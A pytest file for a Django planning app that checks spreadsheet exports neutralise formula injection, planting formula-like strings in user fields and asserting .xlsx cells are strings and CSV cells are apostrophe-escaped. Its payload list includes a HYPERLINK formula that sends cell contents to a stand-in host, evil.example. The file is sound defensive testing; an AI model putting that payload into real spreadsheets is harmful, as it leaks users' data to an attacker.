"""Text a user typed never runs as a formula in an officer's spreadsheet: formula-like names planted in every
field that reaches an export come out of every .xlsx as string cells and out of every CSV behind an apostrophe."""

import csv
import io
import re

import openpyxl
import pytest
from django.urls import reverse

from xaso.core.cells import inert_text
from xaso.plans.models import Commune, Indicator, Plan, Task

pytestmark = pytest.mark.django_db

PLANTED = ["=1+2", "+SUM(A1)", "-2+3", "@cmd", '=HYPERLINK("http://evil.example/?x="&A1;"Bấm")', "\t=1+1", "\r=1+1"]
FORMULA_START = tuple("=+-@\t\r")
NUMBER = re.compile(r"-?[\d.]+(,\d+)?")


@pytest.mark.parametrize("value, written", [
    ("=1+2", "'=1+2"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Xã Yên Lập", "Xã Yên Lập"), ("", ""), (-2.5, -2.5), (3, 3), (None, None),
])
def test_text_that_would_start_a_formula_is_escaped_and_numbers_stay_numbers(value, written):
    assert inert_text(value) == written


@pytest.fixture
def planted(plan, commune):
    """Every user-typed field that reaches an export carries a formula: commune, units, task names, indicator
    text and its written baseline and target, timelines."""
    commune.name = PLANTED[0]
    commune.save()
    for unit, text in zip(commune.units.all(), PLANTED):
        unit.name = unit.short_name = text
        unit.save()
    for task, name, timeline in zip(Task.objects.filter(plan=plan), PLANTED[1:], PLANTED[4:]):
        task.name, task.timeline_text, task.lead_text = name, timeline, name
        task.save()
    Indicator.objects.filter(plan=plan).update(text=PLANTED[4], baseline_text=PLANTED[3], target_text=PLANTED[2])
    other = Commune.objects.create(province=commune.province, name=PLANTED[1])
    Plan.objects.create(commune=other, year=2026, title=PLANTED[2], status=Plan.ISSUED)
    return plan


def _downloads(plan):
    province = plan.commune.province_id
    dashboard = reverse("province_dashboard", args=[province])
    yield reverse("plan_report", args=[plan.pk]) + "?format=xlsx&period=2026"
    yield reverse("province_report", args=[province])
    for table in ("ranking", "silent", "indicator", "areas", "budget", "timeliness", "commune_reports"):
        for fmt in ("csv", "xlsx"):
            yield f"{dashboard}?table={table}&format={fmt}&indicator={PLANTED[4]}"


def _cells(response) -> list:
    """The text cells of a download; an .xlsx has no formula cell (a string cell is inert whatever it starts with),
    a CSV no text starting a formula (Excel runs those) other than a number."""
    data = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        text = data.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]
        for cell in cells:
            assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), cell
        return [cell[1:] if cell.startswith("'") else cell for cell in cells]
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not formulas, f"formula cells {formulas}"
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def test_no_export_carries_a_formula(planted, province_client):
    seen = set()
    for url in _downloads(planted):
        response = province_client.get(url)
        assert response.status_code == 200, url
        seen.update(_cells(response))
    # every planted text reached some export: whole, or after the commune's kind ("Xã =1+2", which starts no formula)
    assert all(any(cell == text or cell.endswith(f" {text}") for cell in seen) for text in PLANTED), seen
